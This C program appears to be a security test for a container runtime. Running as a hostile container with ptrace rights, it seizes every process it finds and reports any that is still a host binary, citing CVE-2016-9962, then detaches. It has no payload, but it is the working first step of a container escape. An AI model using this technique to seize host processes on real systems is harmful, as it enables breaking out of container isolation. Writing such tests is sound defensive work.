// SPDX-License-Identifier: Apache-2.0
/*
 * seizer: a hostile container with CAP_SYS_PTRACE. Until there is a file /stop, it traces every process that appears (CVE-2016-9962).
 * One that it holds while that is still a program of the host's it could make do anything: "GOT …". It says how often it has held one
 * of the container's own, too, so that one knows that it can.
 */
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

/* Its program is not the file that has that name in here. */
static bool is_foreign(pid_t pid, char target[PATH_MAX])
{
	char link[64];
	struct stat here, it;

	snprintf(link, sizeof(link), "/proc/%d/exe", pid);
	ssize_t n = readlink(link, target, PATH_MAX - 1);

	if (n <= 0 || stat(link, &it) < 0)
		return false; /* it has ended */
	target[n] = '\0';
	return stat(target, &here) < 0 || here.st_ino != it.st_ino || here.st_dev != it.st_dev;
}

int main(void)
{
	long seen = 0, held = 0;
	int status;

	setvbuf(stdout, NULL, _IOLBF, 0);
	puts("hunting");
	while (access("/stop", F_OK) < 0) {
		DIR *proc = opendir("/proc");

		for (struct dirent *e = proc ? readdir(proc) : NULL; e; e = readdir(proc)) {
			pid_t pid = atoi(e->d_name);
			char target[PATH_MAX];

			if (pid <= 0 || pid == getpid())
				continue;
			seen++;
			if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
				continue;
			if (is_foreign(pid, target))
				printf("GOT hold of process %d, which is the host's %s\n", pid, target);
			held++;
			if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status))
				ptrace(PTRACE_DETACH, pid, 0, 0);
		}
		closedir(proc);
	}
	printf("held %ld\nseen %ld\n", held, seen);
}
